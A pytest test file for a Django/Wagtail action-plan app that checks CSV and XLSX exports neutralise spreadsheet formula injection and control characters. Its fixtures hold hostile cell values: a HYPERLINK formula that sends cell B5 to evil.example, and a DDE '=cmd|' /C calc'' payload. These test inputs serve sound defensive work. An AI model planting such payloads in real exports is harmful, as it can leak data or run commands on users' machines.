"""Exports never run a formula in a spreadsheet and never fail on a character XLSX cannot hold.

Titles like these were saved before titles were checked, or arrive through the description; they are
written straight into the database here, as an old row would be.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actieplan.models import Action, ReflectionSession
from tests.factories import make_action

pytestmark = pytest.mark.django_db

NASTY = ["=HYPERLINK(\"http://evil.example\",\"klik\")", "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\tTab vooraan",
         "\rCR vooraan"]
CONTROL = "Titel met \x01 en ESC \x1b erin"


@pytest.fixture
def nasty_plan(people):
    actions = [make_action(people.partnership, people.owner, title=f"Actie {n}") for n in range(len(NASTY) + 1)]
    for action, title in zip(actions, NASTY + [CONTROL]):
        Action.objects.filter(pk=action.pk).update(title=title, description="Omschrijving \x07 met bel")
    return actions


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(data, delimiter=";"):
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_front_end_csv_neutralises_formula_prefixes(client, people, nasty_plan):
    client.force_login(people.werkgroeplid)
    response = client.get(reverse("actieplan:action_export_csv"))
    assert response.status_code == 200
    cells = csv_cells(response.content)
    for title in NASTY:
        assert "'" + title in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert not any("\x01" in cell or "\x1b" in cell for cell in cells)


def test_front_end_xlsx_survives_control_characters_and_keeps_formulas_as_text(client, people, nasty_plan):
    client.force_login(people.werkgroeplid)
    response = client.get(reverse("actieplan:action_export_xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert "Titel met  en ESC  erin" in titles  # the control characters are stripped
    formula_cell = next(row[0] for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("=HYPER"))
    assert formula_cell.data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_action_export_survives_and_neutralises(client, people, nasty_plan, fmt):
    client.force_login(people.procesbewaker)
    response = client.get(reverse("actieplan_actions:list"), {"export": fmt})
    assert response.status_code == 200
    data = body(response)
    if fmt == "csv":
        cells = csv_cells(data, delimiter=",")
        assert "'=HYPERLINK(\"http://evil.example\",\"klik\")" in cells
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        values = [c.value for row in sheet.iter_rows() for c in row]
        assert "Titel met  en ESC  erin" in values


@pytest.mark.parametrize("url_name", ["actieplan_overdue_report", "wagtailsnippets_actieplan_reflectionsession:list",
                                      "wagtailadmin_reports:site_history"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_other_admin_exports_survive_and_neutralise(client, admin_user, people, url_name, fmt):
    session = ReflectionSession.objects.create(partnership=people.partnership, title="Sessie")
    ReflectionSession.objects.filter(pk=session.pk).update(title="=cmd|' /C calc'!A0 \x01")
    action = make_action(people.partnership, people.owner, title="x")
    Action.objects.filter(pk=action.pk).update(title="=cmd|' /C calc'!A0 \x01", deadline="2020-01-01")
    from wagtail.log_actions import log
    log(instance=Action.objects.get(pk=action.pk), action="wagtail.edit", user=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse(url_name), {"export": fmt})
    assert response.status_code == 200
    data = body(response)
    if fmt == "csv":
        cells = csv_cells(data, delimiter=",")
        assert any(cell.startswith("'=cmd") for cell in cells)
        assert not any(cell.startswith("=") for cell in cells)
    else:
        load_workbook(io.BytesIO(data))  # readable at all


# --- every export endpoint, with hostile text in every field it writes ------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/"&B5,"klik")\x01\x1b'


@pytest.fixture
def hostile_world(people, admin_user, library):
    """Partnership, organisation, person, action, session (with a comment), meeting, Voortgang page and good
    practice, each named with a formula and control characters, written as an old row would be."""
    import datetime

    from django.utils import timezone
    from wagtail.log_actions import log

    from actieplan.models import (
        Meeting, Organisation, Partnership, ReflectionQuestion, ReflectionResponse, ReflectionScore,
    )
    from actieplan.progress.demo import ensure_progress_page
    from good_practices.models import GoodPracticePage

    action = make_action(people.partnership, people.owner, title="x", deadline=timezone.localdate())
    Action.objects.filter(pk=action.pk).update(title=HOSTILE, description=HOSTILE,
                                               deadline=timezone.localdate() - datetime.timedelta(days=3))
    session = ReflectionSession.objects.create(partnership=people.partnership, title="x")
    session.snapshot_questions()
    session.save()
    response = ReflectionResponse.objects.create(session=session, respondent_token="t-hostile")
    question = ReflectionQuestion.objects.filter(is_active=True).first()
    ReflectionScore.objects.create(response=response, question=question, score=2, comment=HOSTILE)
    ReflectionSession.objects.filter(pk=session.pk).update(title=HOSTILE)
    meeting = Meeting.objects.create(partnership=people.partnership, title="x",
                                     starts_at=timezone.now() + datetime.timedelta(days=2))
    Meeting.objects.filter(pk=meeting.pk).update(title=HOSTILE, location=HOSTILE)
    Organisation.objects.filter(pk=people.organisation.pk).update(name=HOSTILE)
    Partnership.objects.filter(pk=people.partnership.pk).update(name=HOSTILE + " regio")
    type(people.owner).objects.filter(pk=people.owner.pk).update(first_name=HOSTILE)
    page = ensure_progress_page(people.partnership, title="x", slug="voortgang-vijandig")
    type(page).objects.filter(pk=page.pk).update(title=HOSTILE)
    practice = library.add_child(instance=GoodPracticePage(title="x", slug="vijandig", summary="s"))
    practice.save_revision().publish()
    GoodPracticePage.objects.filter(pk=practice.pk).update(
        title=HOSTILE, reviewed_at=timezone.localdate() - datetime.timedelta(days=800))  # due for review
    from actieplan.models import Reminder

    Reminder.objects.create(key="vijandig", action_id=action.pk, kind="verlopen", period="2026-01-01/+1d",
                            recipient=people.owner, email="o@example.nl", last_error=HOSTILE)
    for instance in (Action.objects.get(pk=action.pk), ReflectionSession.objects.get(pk=session.pk)):
        log(instance=instance, action="wagtail.edit", user=admin_user)
    return {"session": session.pk, "page": page.pk}


FRONT_END_EXPORTS = [
    ("actieplan csv", lambda w: reverse("actieplan:action_export_csv"), "csv"),
    ("actieplan xlsx", lambda w: reverse("actieplan:action_export_xlsx"), "xlsx"),
    ("reflectie csv", lambda w: reverse("actieplan:reflection_csv", args=[w["session"]]), "csv"),
    ("voortgang xlsx", lambda w: f"/voortgang-vijandig/?formaat=xlsx", "xlsx"),
]
ADMIN_EXPORTS = [
    "/admin/actieplan/acties/", "/admin/reports/verlopen-acties/", "/admin/snippets/actieplan/reflectionsession/",
    "/admin/actieplan/overleg/", "/admin/snippets/actieplan/organisation/", "/admin/reports/site-history/",
    "/admin/reports/good-practices-te-beoordelen/", "/admin/reports/aging-pages/", "/admin/reports/locked/",
    "/admin/reports/workflow/", "/admin/reports/workflow_tasks/", "/admin/actieplan/herinneringen/",
]


def assert_safe_export(data, fmt, what, must_contain=True):
    if fmt == "csv":
        delimiter = ";" if data[:3] == b"\xef\xbb\xbf" and b";" in data.split(b"\n", 1)[0] else ","
        cells = csv_cells(data, delimiter)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], what
    else:
        book = load_workbook(io.BytesIO(data))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{what}: formule in {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
            cells.append(sheet.title)
    assert not [c for c in cells if "\x01" in c or "\x1b" in c], what
    if must_contain:
        assert any("HYPERLINK" in c for c in cells), f"{what}: de vijandige tekst staat er niet in"


@pytest.mark.parametrize("name,url,fmt", FRONT_END_EXPORTS, ids=[e[0] for e in FRONT_END_EXPORTS])
def test_every_front_end_export_neutralises_hostile_titles(client, people, hostile_world, name, url, fmt):
    client.force_login(people.procesbewaker)
    response = client.get(url(hostile_world))
    assert response.status_code == 200, name
    assert_safe_export(body(response), fmt, name)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("url", ADMIN_EXPORTS)
def test_every_admin_export_neutralises_hostile_titles(client, admin_user, hostile_world, url, fmt):
    client.force_login(admin_user)
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200, url
    # Wagtail's workflow reports list only pages in a workflow: there the rule holds, the text may be absent.
    assert_safe_export(body(response), fmt, url, must_contain="workflow" not in url and "locked" not in url)


def test_one_rule_for_every_cell():
    from actieplan.spreadsheets import csv_cell, xlsx_cell

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x" and csv_cell("gewoon") == "gewoon"
    assert csv_cell(-5) == -5 and csv_cell("a\x00b\x07c") == "abc" and csv_cell("\x01=1") == "'=1"
    assert xlsx_cell("regel\nregel\x0b") == "regel\nregel"
